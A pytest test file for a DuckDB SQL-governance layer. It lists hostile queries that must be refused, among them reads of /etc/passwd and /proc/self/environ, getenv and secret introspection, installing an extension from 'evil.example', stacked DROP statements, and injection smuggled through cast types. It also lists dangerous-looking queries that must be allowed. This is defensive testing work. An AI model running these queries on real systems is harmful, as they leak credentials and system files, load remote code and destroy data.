"""Hostile SQL corpus: every entry must be refused, denied or unknown, naming the construct.

Threat classes from the security brief (section 3): file and network access
through table functions and replacement scans, statements other than SELECT
(including sqlglot's ``exp.Command`` fallback), stacked statements and comment
tricks, introspection functions, parser exhaustion, name tricks (three parts,
quoted paths, CTE shadowing, whole-row references), DuckDB-only syntax
(lambdas, ``COLUMNS``, ``#n``, sampling), and text that sqlglot would re-emit
verbatim as SQL. A second corpus holds queries that *look* dangerous but are
legitimate: they must be accepted, read no file but the granted ones and run
on a DuckDB connection that can open only those files.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import sqlglot
from sqlglot import exp

from policies.errors import AccessDenied, PolicyError, QueryRefused, UnknownDataset
from policies.rewrite import govern
from tests.policies import (
    GrantCatalog,
    assert_duckdb_reads_only,
    read_parquet_paths,
    run_governed,
    standard_sources,
    write_catalog,
)

EM = "dg_factory.energy_meter"
SITES = "dg_factory.sites"


def refused(sql: str, construct: str, name: str) -> object:
    return pytest.param(sql, QueryRefused, construct, id=name)


def denied(sql: str, name: str) -> object:
    return pytest.param(sql, AccessDenied, None, id=name)


def unknown(sql: str, name: str) -> object:
    return pytest.param(sql, UnknownDataset, None, id=name)


FILES_AND_NETWORK = [
    refused("SELECT * FROM read_csv('/etc/passwd')", "READ_CSV", "read_csv"),
    refused("SELECT * FROM read_csv_auto('/etc/passwd')", "READ_CSV_AUTO", "read_csv_auto"),
    refused(
        "SELECT * FROM read_parquet('/data/hk/payroll.parquet')", "READ_PARQUET", "read_parquet"
    ),
    refused("SELECT * FROM read_text('/proc/self/environ')", "READ_TEXT", "read_text"),
    refused("SELECT * FROM read_json_auto('/etc/x.json')", "READ_JSON_AUTO", "read_json_auto"),
    refused("SELECT read_blob('/etc/passwd')", "READ_BLOB", "read_blob_scalar"),
    refused("SELECT * FROM sniff_csv('/etc/passwd')", "SNIFF_CSV", "sniff_csv"),
    refused("SELECT * FROM glob('/data/*')", "GLOB", "glob"),
    refused(
        "SELECT * FROM parquet_metadata('/data/x.parquet')", "PARQUET_METADATA", "parquet_meta"
    ),
    refused(
        "SELECT * FROM postgres_scan('host=x', 'public', 't')", "POSTGRES_SCAN", "postgres_scan"
    ),
    refused("FROM '/etc/passwd'", "table name", "from_string_path"),
    refused("SELECT * FROM '/data/x.parquet'", "table name", "replacement_scan_path"),
    refused("SELECT * FROM 'file:///etc/passwd'", "table name", "file_url"),
    refused('SELECT * FROM "s3://bucket/key.parquet"', "table name", "quoted_s3_url"),
    refused('SELECT * FROM dg_factory."energy_meter.parquet"', "table name", "dotted_name"),
    refused(
        'SELECT * FROM "dg_factory"."energy_meter "', "table name", "trailing_space_not_stripped"
    ),
    refused("SELECT 1 UNION ALL SELECT * FROM read_csv('/etc/passwd')", "READ_CSV", "union_branch"),
    refused("SELECT * FROM range(10)", "RANGE", "range_table_function"),
    refused("SELECT * FROM unnest([1, 2])", "UNNEST", "unnest_table"),
]

STATEMENTS = [
    refused("COPY (SELECT 1) TO '/tmp/x'", "COPY", "copy_to"),
    refused(f"COPY {EM} TO '/tmp/x.csv'", "COPY", "copy_dataset"),
    refused("ATTACH 'x.db'", "ATTACH", "attach"),
    refused("ATTACH ':memory:' AS m", "ATTACH", "attach_memory"),
    refused("DETACH m", "DETACH", "detach"),
    refused("INSTALL httpfs", "INSTALL", "install"),
    refused("LOAD httpfs", "LOAD", "load_command_fallback"),
    refused("LOAD '/tmp/evil.duckdb_extension'", "LOAD", "load_file"),
    refused("PRAGMA enable_profiling", "PRAGMA", "pragma"),
    refused("PRAGMA disable_optimizer", "PRAGMA", "pragma_disable_optimizer"),
    refused("SET threads = 64", "SET", "set"),
    refused("SET VARIABLE x = 1", "SET", "set_variable"),
    refused("SET search_path = 'storage'", "SET", "set_search_path"),
    refused("RESET threads", "RESET", "reset"),
    refused("CREATE TEMP MACRO md5(x) AS x", "CREATE", "temp_macro"),
    refused("CREATE TEMP VIEW energy_meter AS SELECT 1", "CREATE", "shadowing_view"),
    refused("CREATE SECRET (TYPE S3, KEY_ID 'x')", "CREATE", "create_secret"),
    refused("EXPLAIN SELECT 1", "EXPLAIN", "explain"),
    refused(f"EXPLAIN ANALYZE SELECT kwh FROM {EM}", "EXPLAIN", "explain_analyze"),
    refused(f"SUMMARIZE {EM}", "SUMMARIZE", "summarize"),
    refused(f"DESCRIBE {EM}", "DESCRIBE", "describe"),
    refused("SHOW TABLES", "SHOW", "show"),
    refused("CALL pragma_version()", "CALL", "call"),
    refused("CHECKPOINT", "CHECKPOINT", "checkpoint"),
    refused("USE storage", "USE", "use"),
    refused("EXPORT DATABASE '/tmp/x'", "EXPORT", "export_database"),
    refused("IMPORT DATABASE '/tmp/x'", "IMPORT", "import_database"),
    refused("FORCE INSTALL httpfs FROM 'http://evil.example'", "INSTALL", "force_install"),
    refused("UPDATE EXTENSIONS", "UPDATE", "update_extensions"),
    refused("BEGIN TRANSACTION", "TRANSACTION", "begin_transaction"),
    refused("VACUUM", "VACUUM", "vacuum"),
    refused("PREPARE p AS SELECT 1", "PREPARE", "prepare"),
    refused("INSERT INTO t VALUES (1)", "INSERT", "insert"),
    refused("UPDATE t SET a = 1", "UPDATE", "update"),
    refused("DELETE FROM t", "DELETE", "delete"),
    refused("DROP TABLE t", "DROP", "drop"),
    refused(f"PIVOT {EM} ON site USING sum(kwh)", "PIVOT", "pivot_statement"),
    refused("VALUES (1)", "VALUES", "bare_values"),
    refused("SELECT 1 INTO pwned", "INTO", "select_into"),
    refused("", "empty", "empty"),
    refused("-- only a comment", "empty", "only_comment"),
]

STACKED_AND_COMMENTS = [
    refused("SELECT 1; SELECT 2", "multiple statements", "two_selects"),
    refused("SELECT 1; DROP TABLE x", "multiple statements", "select_then_drop"),
    refused(
        "SELECT 1 /* hidden */; DROP TABLE x", "multiple statements", "block_comment_then_drop"
    ),
    refused(
        "SELECT 1 -- comment\n; CREATE TABLE pwned AS SELECT 1",
        "multiple statements",
        "line_comment_then_create",
    ),
    refused(f"SELECT kwh FROM {EM}; INSTALL httpfs", "multiple statements", "select_then_install"),
]

INTROSPECTION = [
    refused("SELECT current_setting('allowed_directories')", "CURRENT_SETTING", "current_setting"),
    refused("SELECT getvariable('x')", "GETVARIABLE", "getvariable"),
    refused("SELECT getenv('HOME')", "GETENV", "getenv"),
    refused("SELECT * FROM query('SELECT 1')", "QUERY", "query"),
    refused("SELECT * FROM query_table('t')", "QUERY_TABLE", "query_table"),
    refused("SELECT * FROM duckdb_settings()", "DUCKDB_SETTINGS", "duckdb_settings"),
    refused("SELECT * FROM duckdb_secrets()", "DUCKDB_SECRETS", "duckdb_secrets"),
    refused("SELECT error('boom')", "ERROR", "error_oracle"),
    refused("SELECT version()", "VERSION", "version"),
    refused("SELECT current_user", "CURRENT_USER", "current_user"),
    refused(f"SELECT to_json(m) FROM {EM} AS m", "TO_JSON", "to_json_whole_row"),
    refused("SELECT hash(1)", "HASH", "hash"),
]

EXHAUSTION = [
    refused("SELECT " + "(" * 200 + "1" + ")" * 200, "parse", "200_parentheses"),
    refused("SELECT " + "abs(" * 200 + "1" + ")" * 200, "parse", "200_nested_calls"),
    refused("SELECT 1 AS x" + " " * 100_000, "size", "100kb_sql"),
    refused(f"SELECT {' + '.join(['kwh'] * 9000)} FROM {EM}", "complexity", "9000_term_chain"),
    refused(f"SELECT {', '.join(['kwh'] * 1100)} FROM {EM}", "complexity", "1100_columns"),
    refused(
        f"SELECT 1 FROM {EM} AS m0 "
        + " ".join(f"JOIN {EM} AS m{n} ON m{n}.kwh = m0.kwh" for n in range(1, 70)),
        "complexity",
        "70_joins",
    ),
    refused("SELECT unnest(range(2000000000))", "UNNEST", "unnest_range"),
    refused("SELECT repeat('x', 2000000000)", "REPEAT", "repeat"),
    refused(f"SELECT * FROM {EM}, {SITES}", "cross join", "comma_join"),
    refused(f"SELECT * FROM {EM} CROSS JOIN {SITES}", "cross join", "cross_join"),
    refused(f"SELECT * FROM {EM} AS m JOIN {SITES} AS s ON TRUE", "cross join", "on_true"),
    refused(f"SELECT * FROM {EM} AS m JOIN {SITES} AS s ON 1 = 1", "cross join", "on_constant"),
    refused(f"SELECT * FROM {EM} NATURAL JOIN {SITES}", "NATURAL JOIN", "natural_join"),
    refused(f"SELECT * FROM {EM} POSITIONAL JOIN {SITES}", "POSITIONAL JOIN", "positional_join"),
    refused(
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
        "recursive CTE",
        "recursive_cte",
    ),
]

NAMES_AND_COLUMNS = [
    refused(f"SELECT * FROM cat.{EM}", "three-part name", "three_part_name"),
    refused(f"SELECT m FROM {EM} AS m", "whole-row reference", "whole_row"),
    refused(f"SELECT count(m) FROM {EM} AS m", "whole-row reference", "whole_row_in_aggregate"),
    refused(f"SELECT operator_phone FROM {EM}", "column", "ungranted_column"),
    refused(f"SELECT m.operator_phone FROM {EM} AS m", "column", "ungranted_qualified_column"),
    refused(
        f"SELECT * FROM {EM} WHERE operator_phone LIKE '+852%'", "column", "ungranted_in_where"
    ),
    refused(f"SELECT {EM}.kwh FROM {EM}", "column", "three_part_column"),
    refused(f"SELECT m.ts.year FROM {EM} AS m", "column", "struct_field_access"),
    refused(f"SELECT * FROM ({EM})", "parenthesised table", "parenthesised_table"),
    refused(f"SELECT * FROM ({EM} JOIN {SITES} USING (site))", "parenthesised table", "paren_join"),
    refused(f"SELECT * FROM {EM} AT (VERSION => 0)", "time travel", "time_travel_version_zero"),
    refused('WITH "x.parquet" AS (SELECT 1) SELECT * FROM "x.parquet"', "table name", "cte_path"),
    denied(
        "WITH energy_meter AS (SELECT * FROM hk_logistics.payroll) SELECT * FROM energy_meter",
        "cte_named_like_dataset_reads_ungranted",
    ),
    denied("SELECT * FROM hk_logistics.payroll", "ungranted_dataset"),
    denied(f"SELECT kwh FROM {EM} WHERE EXISTS (SELECT 1 FROM hk_logistics.payroll)", "in_exists"),
    denied("SELECT (SELECT max(salary) FROM hk_logistics.payroll)", "in_scalar_subquery"),
    denied(
        f"SELECT site FROM {SITES} UNION ALL SELECT employee FROM hk_logistics.payroll", "union"
    ),
    unknown("SELECT * FROM energy_meter", "one_part_name"),
    unknown("SELECT * FROM nobody.nothing", "unknown_dataset"),
]

DUCKDB_SYNTAX = [
    refused("SELECT list_transform([1, 2], x -> x + 1)", "LIST_TRANSFORM", "lambda_function"),
    refused("SELECT x -> x + 1", "JSON_EXTRACT", "arrow_operator"),
    refused(f"SELECT COLUMNS('.*') FROM {EM}", "COLUMNS", "columns_regex"),
    refused(f"SELECT #1 FROM {EM}", "positional column", "positional_column"),
    refused(f"SELECT * FROM {EM} USING SAMPLE 10%", "sample", "using_sample"),
    refused(f"SELECT * FROM {EM} TABLESAMPLE 10%", "sample", "tablesample"),
    refused(f"SELECT * EXCLUDE (kwh) FROM {EM}", "star modifier", "star_exclude"),
    refused(f"SELECT * REPLACE (1 AS kwh) FROM {EM}", "star modifier", "star_replace"),
    refused(
        f"SELECT * FROM {EM} AS m JOIN LATERAL (SELECT m.kwh AS k) AS l ON m.kwh = l.k",
        "lateral",
        "lateral",
    ),
    refused(f"SELECT sum(kwh) FROM {EM} GROUP BY ROLLUP (site)", "rollup", "rollup"),
    refused(f"SELECT kwh FROM {EM} LIMIT 10%", "limit options", "limit_percent"),
    refused("SELECT U&'\\0041'", "bitwise and", "unicode_escape"),
    refused("SELECT $$abc$$", "dollar-quoted string", "dollar_string"),
    refused("SELECT e'\\x41'", "escape string", "escape_string"),
    refused("SELECT ?", "placeholder", "placeholder"),
    refused("SELECT [1, 2]", "ARRAY", "list_literal"),
    refused("SELECT {'a': 1}", "STRUCT", "struct_literal"),
    refused("(SELECT 1)", "SUBQUERY", "parenthesised_statement"),
]

REGENERATION_INJECTION = [
    refused(
        f"SELECT CAST(kwh AS \"INT); COPY (SELECT 1) TO '/tmp/x'; --\") FROM {EM}",
        "type",
        "quoted_cast_type",
    ),
    refused(
        f'SELECT CAST(kwh AS DECIMAL("10); DROP TABLE x; --")) FROM {EM}', "type", "type_param"
    ),
    refused(f'SELECT kwh::"x); DROP TABLE t; --" FROM {EM}', "type", "double_colon_type"),
    refused(f"SELECT CAST(kwh AS my_type) FROM {EM}", "type", "user_defined_type"),
    refused(
        f'SELECT EXTRACT("year FROM ts)); DROP TABLE x; --" FROM ts) FROM {EM}',
        "keyword",
        "extract_part",
    ),
    refused(f"SELECT date_trunc('day); DROP TABLE x; --', ts) FROM {EM}", "keyword", "trunc_unit"),
    refused(f"SELECT site COLLATE 'x); DROP TABLE t; --' FROM {SITES}", "COLLATE", "collate"),
]

HOSTILE = (
    FILES_AND_NETWORK
    + STATEMENTS
    + STACKED_AND_COMMENTS
    + INTROSPECTION
    + EXHAUSTION
    + NAMES_AND_COLUMNS
    + DUCKDB_SYNTAX
    + REGENERATION_INJECTION
)


def test_hostile_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize(("sql", "error", "construct"), HOSTILE)
def test_hostile_sql_is_refused(sql: str, error: type[PolicyError], construct: str | None) -> None:
    with pytest.raises(error) as raised:
        govern(sql, GrantCatalog(standard_sources()), max_rows=100)
    if construct is not None:
        assert isinstance(raised.value, QueryRefused)
        assert raised.value.construct == construct
        assert str(raised.value)  # the message names the construct and what is allowed


LOOKS_DANGEROUS_BUT_ALLOWED = [
    pytest.param(f"SELECT '/etc/passwd' AS path, meter_id FROM {EM}", id="path_literal"),
    pytest.param(
        f"SELECT meter_id FROM {EM} WHERE site = 'read_parquet(''/etc/passwd'')'",
        id="function_text_in_literal",
    ),
    pytest.param(f"SELECT meter_id FROM {EM} -- ; COPY (SELECT 1) TO '/tmp/x'", id="line_comment"),
    pytest.param(f"SELECT /* ; DROP TABLE x; */ meter_id FROM {EM}", id="block_comment"),
    pytest.param(
        f"WITH sites AS (SELECT * FROM {SITES}) SELECT * FROM sites", id="cte_like_dataset"
    ),
    pytest.param(
        f"WITH energy_meter AS (SELECT * FROM {EM}) SELECT e.kwh FROM energy_meter AS e",
        id="cte_shadow_with_alias",
    ),
    pytest.param('SELECT "KWH" FROM "DG_FACTORY"."ENERGY_METER"', id="quoted_upper_case"),
    pytest.param(f'SELECT meter_id AS "x""); DROP TABLE t; --" FROM {EM}', id="evil_alias"),
    pytest.param(
        f'SELECT "read_parquet".kwh FROM {EM} AS "read_parquet" JOIN {SITES} AS s '
        'ON "read_parquet".site = s.site',
        id="alias_named_like_function",
    ),
    pytest.param(f'SELECT count(*) FROM {EM} AS "/etc/passwd"', id="path_like_alias"),
    pytest.param(f"SELECT * FROM (SELECT * FROM {EM}) AS energy_meter", id="derived_named_like"),
    pytest.param(
        f"SELECT meter_id FROM {EM} WHERE site IN (SELECT site FROM {SITES})", id="in_subquery"
    ),
    pytest.param(
        f"SELECT district FROM {SITES} WHERE district = 'Chang''an'", id="quote_in_string"
    ),
    pytest.param(
        f"SELECT s.site FROM {SITES} AS s JOIN {EM} AS m USING (site) ORDER BY 1 LIMIT 2",
        id="join_using",
    ),
    pytest.param(
        f"SELECT sum(kwh) FILTER (WHERE kwh > 10) AS big FROM {EM}", id="aggregate_filter"
    ),
    pytest.param(f"SELECT kwh FROM {EM};", id="trailing_semicolon"),
    pytest.param(
        f"WITH energy_meter AS (SELECT 1.0 AS kwh) SELECT kwh FROM {EM}", id="qualified_beats_cte"
    ),
    pytest.param(
        f"SELECT site FROM {SITES} WHERE site = 'x; DROP TABLE t; --'", id="sql_in_literal"
    ),
]


def _assert_only_granted_reads(sql: str, granted_paths: set[str]) -> None:
    statements = [statement for statement in sqlglot.parse(sql, dialect="duckdb") if statement]
    assert len(statements) == 1 and isinstance(statements[0], exp.Select)
    assert read_parquet_paths(sql) <= granted_paths
    cte_names = {cte.alias for cte in statements[0].find_all(exp.CTE)}
    for table in statements[0].find_all(exp.Table):
        if isinstance(table.this, exp.Identifier):
            is_cte = not table.db and table.name in cte_names
            assert is_cte, f"un-rewritten table reference {table.sql()}"
    assert not any(node.comments for node in statements[0].walk()), "comments leaked into SQL"


@pytest.mark.parametrize("sql", LOOKS_DANGEROUS_BUT_ALLOWED)
def test_dangerous_looking_sql_reads_only_granted_files(sql: str, tmp_path: Path) -> None:
    catalog = write_catalog(tmp_path)
    granted = {path for source in catalog.sources.values() for path in source.files}
    try:
        query = govern(sql, catalog, max_rows=100)
    except QueryRefused as refusal:
        pytest.fail(f"refused a legitimate query ({refusal.construct}): {refusal}")
    _assert_only_granted_reads(query.sql, granted)
    assert_duckdb_reads_only(query.sql, granted)
    assert set(query.allowed_paths) <= granted
    run_governed(query.sql, query.allowed_paths)  # runs with only the granted files readable
